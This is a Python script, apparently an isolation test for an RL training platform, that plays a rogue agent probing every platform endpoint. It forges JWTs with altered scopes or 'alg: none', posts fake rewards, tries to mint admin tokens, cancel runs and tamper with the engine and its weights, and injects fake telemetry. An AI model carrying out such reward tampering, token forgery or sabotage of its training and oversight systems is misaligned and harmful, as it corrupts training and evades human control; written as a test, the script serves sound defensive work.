"""An agent that tries its key at every endpoint. Its last line reports what it `got` and how often it `tried`.

PREY says where the platform listens: `api`, `engine`, `gateway`, `collector`, and `internal`, ports of health.
"""

import base64
import json
import os
import urllib.error
import urllib.request

PREY = json.loads(os.environ["PREY"])
KEY = os.environ["OPENAI_API_KEY"]
OWN = os.environ["LEYDEN_ROLLOUT_ID"]
ATTEMPT = int(os.environ["LEYDEN_ATTEMPT"])
CHAT = {"model": "any", "max_tokens": 1, "messages": [{"role": "user", "content": "heads?"}]}
SPANS = {"resourceSpans": [{"scopeSpans": [{"spans": [{
    "traceId": "5b8efff798038103d269b633813fc60c", "spanId": "eee19b7ec3c1b174", "name": "execute_tool theft",
    "startTimeUnixNano": "1", "endTimeUnixNano": "2",
}]}]}]}  # fmt: skip
got, statuses = [], {}


def ask(method, url, body=None, key=KEY):
    headers = {"Content-Type": "application/json", **({"Authorization": "Bearer " + key} if key else {})}
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data, headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code
    except OSError:
        return None


def steal(method, url, body=None, key=KEY):
    status = ask(method, url, body, key)
    statuses[str(status)] = statuses.get(str(status), 0) + 1
    if status is not None and status < 400:
        got.append(f"{method} {url}")


def doors(rollout, attempt, key=KEY):
    here = f"/r/{rollout}/{attempt}"
    steal("POST", f"{PREY['gateway']}{here}/v1/chat/completions", CHAT, key)
    steal("GET", f"{PREY['gateway']}{here}/v1/models", None, key)
    steal("POST", f"{PREY['collector']}{here}/v1/traces", SPANS, key)
    steal("POST", f"{PREY['collector']}{here}/reward", {"value": 1000.0, "key": "stolen"}, key)


def forged(**changes):
    """The own key with other claims: unsigned, and with the signature that it had."""
    header, claims, signature = KEY.split(".")
    changed = {**json.loads(base64.urlsafe_b64decode(claims + "==")), **changes}
    written = base64.urlsafe_b64encode(json.dumps(changed).encode()).decode().rstrip("=")
    none = base64.urlsafe_b64encode(b'{"alg":"none","typ":"JWT"}').decode().rstrip("=")
    return [f"{header}.{written}.{signature}", f"{none}.{written}."]


group, _, sibling = OWN.rpartition(".")
others = [f"{group}.{number}" for number in range(4) if str(number) != sibling] + ["run-nowhere.0.0"]
for other in others:
    doors(other, ATTEMPT)
    for key in forged(rollout=other, scopes=["model", "telemetry", "reward"]):
        doors(other, ATTEMPT, key)
doors(OWN, ATTEMPT + 1)
# The run does not grant rewards: the own one is as far away as another's.
steal("POST", f"{PREY['collector']}/r/{OWN}/{ATTEMPT}/reward", {"value": 1000.0})
for key in forged(scopes=["model", "telemetry", "reward"]):
    steal("POST", f"{PREY['collector']}/r/{OWN}/{ATTEMPT}/reward", {"value": 1000.0}, key)
for key in (KEY, None):
    for path in ("runs", "rollouts", f"rollouts/{OWN}", "tokens", "engines", "datasets"):
        steal("GET", f"{PREY['api']}/v1/{path}", None, key)
    steal("POST", f"{PREY['api']}/v1/rollouts/{OWN}/rewards", {"key": "k", "value": 1000.0}, key)
    steal("POST", f"{PREY['api']}/v1/tokens", {"name": "mine", "scopes": ["admin"]}, key)
    steal("POST", f"{PREY['api']}/v1/runs/{os.environ['LEYDEN_RUN_ID']}/cancel", None, key)
    steal("POST", f"{PREY['engine']}/generate", {"input_ids": [1], "sampling_params": {"max_new_tokens": 1}}, key)
    steal("GET", f"{PREY['engine']}/model_info", None, key)
    for path in ("pause_generation", "continue_generation", "abort_request", "flush_cache"):
        steal("POST", f"{PREY['engine']}/{path}", {"abort_all": True}, key)
    steal("POST", f"{PREY['engine']}/update_weights_from_disk", {"model_path": os.getcwd()}, key)
    for internal in PREY["internal"]:
        steal("GET", f"{internal}/v1/runs", None, key)
        steal("POST", f"{internal}/readyz", {}, key)
# Its own endpoint stays open after all these tries.
served = ask("POST", os.environ["OPENAI_BASE_URL"] + "/chat/completions", CHAT)
print(json.dumps({"reward": 0.0, "got": got, "statuses": statuses, "served": served, "key": KEY}))
